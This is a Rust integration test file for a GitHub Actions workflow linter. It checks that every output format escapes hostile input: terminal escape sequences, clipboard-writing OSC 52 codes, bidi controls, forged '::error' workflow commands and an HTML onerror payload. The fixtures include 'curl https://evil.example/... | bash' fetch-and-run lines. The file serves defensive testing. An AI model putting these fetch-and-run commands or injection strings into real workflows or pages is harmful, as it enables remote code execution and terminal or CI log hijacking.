//! Output that cannot be hijacked, end to end: a repository whose file names, job ids,
//! step names, `uses:` values and source lines hold ESC sequences (clear screen, OSC 52
//! clipboard writes), C1 and bidirectional controls, and newlines followed by
//! `::error file=…::forged`, rendered in every format. No raw control character reaches
//! any output (beyond the format's own line breaks), no output line is a workflow command
//! but tollgate's own in `github` format, DOT renders to SVG that is valid XML, and SARIF
//! uris are relative URI references that name the files again.

#![allow(clippy::print_stderr)]

mod common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::{json, tollgate};

/// The hostile workflow's file name: clear screen, an OSC 52 clipboard write, a newline
/// and a forged workflow command.
const HOSTILE_NAME: &str = "ci\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}\n::error file=x::forged.yml";

/// How [`HOSTILE_NAME`] is shown in text outputs.
const HOSTILE_SHOWN: &str = "ci\\u{1b}[2J\\u{1b}]52;c;ZXZpbA==\\u{7}\\n::error file=x::forged.yml";

/// A generous bound that catches a hang or a blow-up, not a timing.
const LIMIT: Duration = Duration::from_secs(20);

/// YAML escapes put control characters into the workflow's name, the job id, a step's
/// name and a `uses:` value; the script holds raw ESC, BEL and C1 bytes and a bidi
/// override in its source lines.
const WORKFLOW: &str = concat!(
    "name: \"wf \\e[2J\\n::error::wf-name\"\n",
    "on: push\n",
    "jobs:\n",
    "  \"b\\e[31mad\\n::error file=y::job\\u009b\\u202e\":\n",
    "    runs-on: ubuntu-latest\n",
    "    steps:\n",
    "      - name: \"step \\e]52;c;AAAA\\a \\n::warning::forged\"\n",
    "        uses: \"actions/checkout@v4\\n::error file=z::uses \\e[2J\"\n",
    "      - run: |\n",
    "          curl https://evil.example/x\u{1b}[2J.sh | bash\n",
    "          echo \"\u{1b}]52;c;Zm9v\u{7} \u{9b}31m \u{202e}txt.exe ::error file=src::line\"\n",
    "      - run: \"npm install left-pad\\n::error file=n::npm\"\n",
);

/// Write the hostile repository: the workflow under a hostile name and a plain one, and a
/// broken file (a diagnostic) with a hostile name and a raw ESC on its bad line.
fn hostile_repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let wf = dir.path().join(".github/workflows");
    std::fs::create_dir_all(&wf).expect("mkdir");
    std::fs::write(wf.join(HOSTILE_NAME), WORKFLOW).expect("write");
    std::fs::write(wf.join("plain.yml"), WORKFLOW).expect("write");
    std::fs::write(
        wf.join("broken \u{1b}[31m\n::error file=b::x.yml"),
        "on: push\njobs: [\u{1b}]52;c;QQ==\u{7}\n  ::error file=c::broken: {\n",
    )
    .expect("write");
    dir
}

/// Run tollgate with `args` then `path`; exit 0 or 1 within [`LIMIT`]; stdout and stderr.
fn run(args: &[&str], path: &Path) -> (String, String) {
    let start = Instant::now();
    let out = tollgate().args(args).arg(path).output().expect("runs");
    let took = start.elapsed();
    let stderr = String::from_utf8(out.stderr).expect("UTF-8 stderr");
    assert!(took < LIMIT, "{args:?} took {took:?}");
    assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{args:?}: exit {:?}: {stderr}",
        out.status.code()
    );
    (String::from_utf8(out.stdout).expect("UTF-8 stdout"), stderr)
}

/// What must never reach an output raw: C0 and C1 controls, DEL, bidirectional
/// formatting characters and the Unicode line separators.
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{2028}'
                | '\u{2029}'
        )
}

/// No unsafe character in `text` but the ones in `allowed` (the format's own layout).
fn assert_clean(what: &str, text: &str, allowed: &[char]) {
    let bad: Vec<(usize, char)> = text
        .char_indices()
        .filter(|&(_, c)| is_unsafe(c) && !allowed.contains(&c))
        .take(5)
        .collect();
    assert!(bad.is_empty(), "{what}: raw control characters {bad:?}");
}

/// No line the Actions runner would read as a workflow command (it trims leading
/// whitespace before looking for `::`).
fn assert_no_commands(what: &str, text: &str) {
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("::"),
            "{what}: a line reads as a workflow command: {line:?}"
        );
    }
}

/// Both checks, for every text output and its standard error.
fn assert_safe(what: &str, (stdout, stderr): &(String, String), allowed: &[char]) {
    assert!(!stdout.is_empty(), "{what}: no output");
    assert_clean(what, stdout, allowed);
    assert_no_commands(what, stdout);
    assert_clean(&format!("{what} (stderr)"), stderr, &['\n']);
    assert_no_commands(&format!("{what} (stderr)"), stderr);
}

#[test]
fn human_output_shows_control_characters() {
    let repo = hostile_repo();
    for args in [
        &["check", "--color", "never"][..],
        &["check", "--color", "never", "--statistics"],
    ] {
        let out = run(args, repo.path());
        assert_safe(&format!("{args:?}"), &out, &['\n']);
        // Shown, not dropped: the name, a job id, a `uses:` value, a source line.
        for shown in [
            HOSTILE_SHOWN,
            "b\\u{1b}[31mad\\n::error file=y::job\\u{9b}\\u{202e}",
            "actions/checkout@v4\\n::error file=z::uses \\u{1b}[2J",
            "curl https://evil.example/x\\u{1b}[2J.sh | bash",
        ] {
            assert!(out.0.contains(shown), "{args:?}: {shown} missing");
        }
    }
    // Into a file, the same.
    let file = repo.path().join("report.txt");
    let out = tollgate()
        .args(["check", "--color", "never", "-o"])
        .arg(&file)
        .arg(repo.path())
        .output()
        .expect("runs");
    assert!(matches!(out.status.code(), Some(0 | 1)));
    let text = std::fs::read_to_string(&file).expect("report");
    assert!(text.contains(HOSTILE_SHOWN));
    assert_safe("check -o file", &(text, String::new()), &['\n']);
}

/// With colour, the only escape sequences are miette's own colours (SGR, `ESC [ … m`);
/// no clear screen, no OSC.
#[test]
fn coloured_human_output_has_only_its_own_colours() {
    let repo = hostile_repo();
    let (stdout, stderr) = run(&["check", "--color", "always"], repo.path());
    let mut plain = String::with_capacity(stdout.len());
    let mut rest = stdout.as_str();
    let mut sgr = 0;
    while let Some(at) = rest.find('\u{1b}') {
        plain.push_str(&rest[..at]);
        let seq = &rest[at + 1..];
        let len = seq
            .strip_prefix('[')
            .and_then(|s| s.find(|c: char| !(c.is_ascii_digit() || c == ';')))
            .filter(|&n| seq[1 + n..].starts_with('m'))
            .unwrap_or_else(|| panic!("an escape that is not a colour: {:?}", &seq[..8]));
        rest = &seq[len + 2..];
        sgr += 1;
    }
    plain.push_str(rest);
    assert!(sgr > 0, "no colour at all");
    assert_safe("check --color always", &(plain, stderr), &['\n']);
}

/// `github` format: one workflow command per finding and diagnostic, every line
/// tollgate's own; properties hold no raw `:` or `,`; input newlines are shown.
#[test]
fn github_commands_are_tollgate_own() {
    let repo = hostile_repo();
    let (stdout, stderr) = run(&["check", "--format", "github"], repo.path());
    assert_clean("github", &stdout, &['\n']);
    assert_clean("github (stderr)", &stderr, &['\n']);
    let (doc, _) = run(&["check", "--format", "json"], repo.path());
    let doc: serde_json::Value = serde_json::from_str(&doc).expect("JSON");
    let expected = doc["findings"].as_array().map_or(0, Vec::len)
        + doc["diagnostics"].as_array().map_or(0, Vec::len);
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), expected, "{stdout}");
    for line in &lines {
        let rest = ["::error ", "::warning ", "::notice "]
            .iter()
            .find_map(|p| line.strip_prefix(p))
            .unwrap_or_else(|| panic!("not a command of tollgate: {line:?}"));
        let (props, message) = rest.split_once("::").expect("properties, then the message");
        assert!(props.starts_with("file="), "{line}");
        for prop in props.split(',') {
            let (key, value) = prop.split_once('=').expect("key=value");
            assert!(key.bytes().all(|b| b.is_ascii_alphabetic()), "{line}");
            assert!(!value.contains(':'), "{line}");
        }
        assert!(!message.is_empty(), "{line}");
    }
    // The hostile name: colons escaped as the runner reads them, the rest shown.
    assert!(stdout.contains(
        "file=.github/workflows/ci\\u{1b}[2J\\u{1b}]52;c;ZXZpbA==\\u{7}\\n%3A%3Aerror file=x%3A%3Aforged.yml,"
    ));
}

/// JSON outputs: serde_json escapes C0 controls; tollgate's writer also DEL, C1,
/// bidirectional controls and line separators, as `\uXXXX`, so the documents read the
/// same.
#[test]
fn json_outputs_hold_no_raw_controls() {
    let repo = hostile_repo();
    for args in [
        &["graph", "--format", "json"][..],
        &["egress", "--format", "json"],
        &["inventory", "--format", "json"],
        &["check", "--format", "json"],
    ] {
        let out = run(args, repo.path());
        assert_safe(&format!("{args:?}"), &out, &['\n']);
        let doc: serde_json::Value = serde_json::from_str(&out.0).expect("valid JSON");
        assert!(
            doc.to_string()
                .contains("b\\u001b[31mad\\n::error file=y::job")
        );
    }
}

/// Decode `%XX` escapes.
fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            let hex = std::str::from_utf8(&b[i + 1..i + 3]).expect("two hex digits");
            out.push(u8::from_str_radix(hex, 16).expect("hex"));
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8(out).expect("UTF-8")
}

/// Whether `uri` is a relative-path reference of RFC 3986 with no query or fragment:
/// unreserved characters, `%XX`, sub-delimiters, `@` and `/`, and no `:` before the first
/// `/` (a scheme).
fn relative_reference(uri: &str) -> bool {
    let b = uri.as_bytes();
    let chars_ok = b.iter().enumerate().all(|(i, &c)| {
        c.is_ascii_alphanumeric()
            || b"-._~!$&'()*+,;=@/:".contains(&c)
            || (c == b'%'
                && b.get(i + 1..i + 3)
                    .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit)))
    });
    let first = uri.split('/').next().unwrap_or("");
    chars_ok && !first.contains(':') && !uri.starts_with("//")
}

fn uris<'a>(v: &'a serde_json::Value, out: &mut Vec<&'a str>) {
    match v {
        serde_json::Value::Object(map) => {
            if let Some(u) = map.get("artifactLocation").and_then(|a| a["uri"].as_str()) {
                out.push(u);
            }
            map.values().for_each(|x| uris(x, out));
        }
        serde_json::Value::Array(items) => items.iter().for_each(|x| uris(x, out)),
        _ => {}
    }
}

#[test]
fn sarif_uris_are_relative_references_and_the_log_is_valid() {
    let repo = hostile_repo();
    let out = run(&["check", "--format", "sarif"], repo.path());
    assert_safe("sarif", &out, &['\n']);
    let doc: serde_json::Value = serde_json::from_str(&out.0).expect("valid JSON");
    common::assert_valid_sarif(&doc, "hostile repository");
    let mut found = Vec::new();
    uris(&doc, &mut found);
    assert!(!found.is_empty());
    for u in &found {
        assert!(relative_reference(u), "not a relative reference: {u:?}");
    }
    let decoded: Vec<String> = found.iter().map(|u| percent_decode(u)).collect();
    let hostile = format!(".github/workflows/{HOSTILE_NAME}");
    assert!(decoded.contains(&hostile), "{decoded:#?}");
    assert!(found.contains(
        &".github/workflows/ci%1B%5B2J%1B%5D52%3Bc%3BZXZpbA%3D%3D%07%0A%3A%3Aerror%20file%3Dx%3A%3Aforged.yml"
    ));
}

/// Characters XML 1.0 allows, raw or as a character reference.
fn xml_char(c: u32) -> bool {
    matches!(c, 0x9 | 0xA | 0xD | 0x20..=0xD7FF | 0xE000..=0xFFFD | 0x1_0000..=0x10_FFFF)
}

/// The SVG holds only characters XML allows, raw and in `&#…;` references.
fn assert_xml_chars(svg: &str) {
    let raw = svg.chars().find(|&c| !xml_char(u32::from(c)));
    assert_eq!(raw, None, "raw character XML forbids");
    let mut rest = svg;
    while let Some(at) = rest.find("&#") {
        let tail = &rest[at + 2..];
        let end = tail.find(';').expect("a terminated reference");
        let num = &tail[..end];
        let value = match num.strip_prefix('x') {
            Some(hex) => u32::from_str_radix(hex, 16),
            None => num.parse(),
        }
        .expect("a number");
        assert!(xml_char(value), "&#{num}; is not an XML character");
        rest = &tail[end..];
    }
}

#[test]
fn graph_renderings_are_safe_and_dot_gives_valid_svg() {
    let repo = hostile_repo();
    let dot_out = run(&["graph", "--view", "full", "--format", "dot"], repo.path());
    assert_safe("dot", &dot_out, &['\n']);
    // The overview draws the same names (workflow, job, hosts) through the same escaping.
    for format in ["dot", "mermaid"] {
        let overview = run(&["graph", "--format", format], repo.path());
        assert_safe("overview", &overview, &['\n']);
    }
    assert!(dot_out.0.contains("b\\\\u{1b}[31mad …"), "{}", dot_out.0);
    let mermaid = run(
        &["graph", "--view", "full", "--format", "mermaid"],
        repo.path(),
    );
    assert_safe("mermaid", &mermaid, &['\n']);
    // Every line is one statement: no label broke out of its quotes onto a line.
    for line in mermaid.0.lines() {
        let t = line.trim_start();
        let known = ["flowchart ", "subgraph c", "end", "classDef ", "class "];
        let node = t
            .strip_prefix('n')
            .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()));
        assert!(node || known.iter().any(|k| t.starts_with(k)), "{line:?}");
    }
    let Ok(mut child) = std::process::Command::new("dot")
        .arg("-Tsvg")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
    else {
        eprintln!("skipped: Graphviz `dot` is not installed");
        return;
    };
    {
        use std::io::Write as _;
        let mut stdin = child.stdin.take().expect("stdin");
        stdin.write_all(dot_out.0.as_bytes()).expect("write");
    }
    let out = child.wait_with_output().expect("dot runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let svg = String::from_utf8(out.stdout).expect("UTF-8 SVG");
    assert!(svg.contains("<svg"));
    assert_xml_chars(&svg);
}

/// harden-runner YAML: every line a comment, one of the two keys, or an entry that is a
/// host and a port; input text only in comments, on one line.
#[test]
fn egress_outputs_cannot_inject_yaml_or_lines() {
    let repo = hostile_repo();
    let yaml = run(&["egress"], repo.path());
    assert_safe("egress harden-runner", &yaml, &['\n']);
    for line in yaml.0.lines() {
        let entry = line.strip_prefix("  ").is_some_and(|e| {
            e.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b".-_*:".contains(&b))
        });
        assert!(
            line.is_empty()
                || line.starts_with("# ")
                || line == "egress-policy: block"
                || line == "allowed-endpoints: >"
                || entry,
            "{line:?}"
        );
    }
    assert!(yaml.0.contains(&format!(
        "# .github/workflows/{HOSTILE_SHOWN}: job `b\\u{{1b}}[31mad"
    )));
    let text = run(&["egress", "--format", "text"], repo.path());
    assert_safe("egress text", &text, &['\n']);
}

#[test]
fn inventory_outputs_are_safe() {
    let repo = hostile_repo();
    let md = run(&["inventory"], repo.path());
    assert_safe("inventory markdown", &md, &['\n']);
    // Table rows stay rows.
    for line in md.0.lines().filter(|l| l.starts_with('|')) {
        assert!(line.ends_with('|'), "{line:?}");
    }
    let csv = run(&["inventory", "--format", "csv"], repo.path());
    // CSV's own line ends are CRLF.
    assert_safe("inventory csv", &csv, &['\r', '\n']);
    for line in csv.0.split("\r\n").filter(|l| !l.is_empty()) {
        assert!(
            !line.contains(['\r', '\n']),
            "a record over two lines: {line:?}"
        );
    }
}

#[test]
fn html_report_is_safe() {
    let repo = hostile_repo();
    let page = run(&["report"], repo.path());
    assert_safe("html report", &page, &['\n']);
    // The only markup is the page's own: one script, and one table row per finding.
    let html = &page.0;
    assert_eq!(html.matches("<script").count(), 1);
    let check = run(&["check", "--format", "json"], repo.path());
    let findings = json(check.0.as_bytes())["findings"]
        .as_array()
        .expect("findings")
        .len();
    assert!(findings > 0);
    assert_eq!(html.matches("<tr data-rule=").count(), findings);
    // The hostile file name is in the page, as escaped text.
    assert!(html.contains("ci\\u{1b}[2J\\u{1b}]52;c;ZXZpbA==\\u{7}\\n::error file=x::forged.yml"));
}

/// Standard output goes through one buffer: a large JSON document is written in blocks,
/// not a `write` call per line (685,738 calls for 5,000 jobs before; 391 after). Counted
/// with `strace` where it is installed and allowed to trace.
#[test]
fn standard_output_is_written_in_blocks() {
    const JOBS: usize = 2000;
    let dir = tempfile::tempdir().expect("tempdir");
    let wf = dir.path().join(".github/workflows");
    std::fs::create_dir_all(&wf).expect("mkdir");
    let mut text = String::from("on: push\njobs:\n");
    for i in 0..JOBS {
        text.push_str(&format!(
            "  j{i}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -sSf https://h{}.example/x.sh | bash\n",
            i % 50
        ));
    }
    std::fs::write(wf.join("big.yml"), text).expect("write");
    let log = dir.path().join("strace.txt");
    let start = Instant::now();
    let out = std::process::Command::new("strace")
        .args(["-f", "-c", "-e", "trace=write", "-o"])
        .arg(&log)
        .arg(env!("CARGO_BIN_EXE_tollgate"))
        .args(["graph", "--format", "json"])
        .arg(dir.path())
        .env("RAYON_NUM_THREADS", "2")
        .output();
    let counted = out.ok().filter(|o| o.status.success()).and_then(|o| {
        let summary = std::fs::read_to_string(&log).ok()?;
        let calls = summary.lines().find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.last() == Some(&"write")).then(|| f.get(3)?.parse::<usize>().ok())?
        })?;
        Some((o.stdout.len(), calls))
    });
    let Some((bytes, calls)) = counted else {
        eprintln!("skipped: strace is not installed or cannot trace here");
        return;
    };
    assert!(start.elapsed() < LIMIT * 3, "took {:?}", start.elapsed());
    // One line per node and edge field: well over 100,000 lines in some 5 MB.
    assert!(bytes > 1_000_000, "{bytes} bytes");
    // Blocks of 64 kB, each written in one or two calls (standard output's own line
    // buffer writes up to the last newline and keeps the rest).
    assert!(
        calls < 2 * bytes / (64 * 1024) + 20,
        "{calls} write calls for {bytes} bytes"
    );
}

/// `concise` format: one line per finding and diagnostic, each `path:line:col:
/// level[rule] message` with the input text shown; a file whose name starts with `::`
/// (passed by name, so its path starts the line) does not make a workflow command.
#[test]
fn concise_lines_are_one_per_finding_and_never_commands() {
    let repo = hostile_repo();
    let out = run(&["check", "--format", "concise"], repo.path());
    assert_safe("concise", &out, &['\n']);
    let (doc, _) = run(&["check", "--format", "json"], repo.path());
    let doc: serde_json::Value = serde_json::from_str(&doc).expect("JSON");
    let expected = doc["findings"].as_array().map_or(0, Vec::len)
        + doc["diagnostics"].as_array().map_or(0, Vec::len);
    let lines: Vec<&str> = out.0.lines().collect();
    assert_eq!(lines.len(), expected, "{}", out.0);
    for line in &lines {
        assert!(
            [": error[", ": warning[", ": note["]
                .iter()
                .any(|l| line.contains(l)),
            "{line}"
        );
    }
    assert!(out.0.contains(HOSTILE_SHOWN), "{}", out.0);
    assert!(
        out.0
            .contains("b\\u{1b}[31mad\\n::error file=y::job\\u{9b}\\u{202e}"),
        "{}",
        out.0
    );

    let forged = "::error file=a.yml::forged.yml";
    std::fs::write(
        repo.path().join(forged),
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: o/r@main\n",
    )
    .expect("write");
    let out = run(&["check", "--format", "concise"], &repo.path().join(forged));
    assert_safe("concise, a file named like a command", &out, &['\n']);
    assert!(
        out.0
            .contains("\n\\u{3a}:error file=a.yml::forged.yml:6:15: error[unpinned-action]"),
        "{}",
        out.0
    );
}

/// The text of a Markdown line outside its code spans (a run of N backticks opens a span
/// that the next run of exactly N closes).
fn outside_code_spans(line: &str) -> String {
    let mut out = String::new();
    let chars: Vec<char> = line.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '`' {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        let n = chars[i..].iter().take_while(|c| **c == '`').count();
        let mut j = i + n;
        let mut closed = None;
        while j < chars.len() {
            let m = chars[j..].iter().take_while(|c| **c == '`').count();
            if m == n {
                closed = Some(j + m);
                break;
            }
            j += m.max(1);
        }
        match closed {
            Some(end) => i = end,
            None => {
                out.extend(&chars[i..]);
                break;
            }
        }
    }
    out
}

#[test]
fn diff_outputs_are_safe() {
    let repo = hostile_repo();
    // Input text that would be HTML, a mention or a link in a pull-request comment.
    std::fs::write(
        repo.path().join(".github/workflows/html.yml"),
        "on: pull_request_target\njobs:\n  \"x</details><img src=x onerror=alert(1)>@octocat`y``\":\n    runs-on: ubuntu-latest\n    steps:\n      - uses: \"evil/act@v1 <b>[link](https://evil.example) #1\"\n",
    )
    .expect("write");
    let empty = tempfile::tempdir().expect("tmp");
    let diff = |format: &str| {
        let out = tollgate()
            .arg("diff")
            .arg(empty.path())
            .arg(repo.path())
            .args(["--format", format])
            .output()
            .expect("runs");
        let stderr = String::from_utf8(out.stderr).expect("UTF-8 stderr");
        assert!(!stderr.contains("panicked"), "{stderr}");
        assert_eq!(out.status.code(), Some(0), "{format}: {stderr}");
        (String::from_utf8(out.stdout).expect("UTF-8 stdout"), stderr)
    };
    let md = diff("markdown");
    assert_safe("diff markdown", &md, &['\n']);
    assert!(md.0.contains("img src=x"), "the hostile job is in the diff");
    for line in md.0.lines() {
        let plain = outside_code_spans(line);
        for tag in plain.match_indices('<').map(|(k, _)| &plain[k..]) {
            assert!(
                ["<details>", "<summary>", "</summary>", "</details>"]
                    .iter()
                    .any(|t| tag.starts_with(t)),
                "input HTML outside a code span: {line:?}"
            );
        }
        assert!(
            !plain.contains('@'),
            "a mention outside a code span: {line:?}"
        );
        assert!(
            !plain.contains("]("),
            "a link outside a code span: {line:?}"
        );
    }
    let json_out = diff("json");
    assert_safe("diff json", &json_out, &['\n']);
    json(json_out.0.as_bytes());
    let gh = diff("github");
    assert_clean("diff github", &gh.0, &['\n']);
    for line in gh.0.lines() {
        assert!(
            line.starts_with("::error ")
                || line.starts_with("::warning ")
                || line.starts_with("::notice "),
            "{line:?}"
        );
    }
    let sarif = diff("sarif");
    assert_safe("diff sarif", &sarif, &['\n']);
}
